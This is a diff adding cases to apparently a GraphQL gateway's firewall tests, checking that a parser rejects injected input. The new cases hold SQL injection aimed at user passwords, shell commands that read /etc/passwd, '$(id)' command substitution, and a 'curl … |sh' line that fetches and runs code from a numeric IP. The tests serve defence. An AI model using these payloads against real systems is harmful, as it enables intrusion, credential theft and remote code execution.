@@ -31,6 +31,7 @@ const ATTACKS = [
   // Not a GraphQL document: read as it is.
   { query: "1' UNION SELECT username, password FROM users--" },
   { query: '; cat /etc/passwd' },
+  { query: 'query { a } ; cat /etc/passwd' },
 ]
 
 async function post(gw: TestGateway, path: string, body: unknown): Promise<number> {
@@ -53,6 +54,13 @@ test('graphqlStrings reads documents and only documents', () => {
   assert.equal(graphqlStrings('query { a '), null)
   assert.equal(graphqlStrings('query { a ) }'), null)
   assert.equal(graphqlStrings('query { a(x: 1abc) }'), null)
+  // GraphQL's punctuation and bare names spell shell and SQL too: the shape of a document decides.
+  assert.equal(graphqlStrings('{a 1} UNION SELECT password FROM users'), null)
+  assert.equal(graphqlStrings('query { a } $(id)'), null)
+  assert.equal(graphqlStrings('query{a} & curl 3232235777|sh'), null)
+  assert.equal(graphqlStrings('query { a } users'), null)
+  assert.deepEqual(graphqlStrings('query Q($id: ID! = "1") @live { a: b(id: $id) { ...F } } fragment F on T { c }'), ['1'])
+  assert.equal(graphqlStrings(`{ a(x: [${'"s", '.repeat(300)}]) }`), null, 'more strings than a document carries: read as it stands')
 })
 
 for (const [name, waf, skip] of [
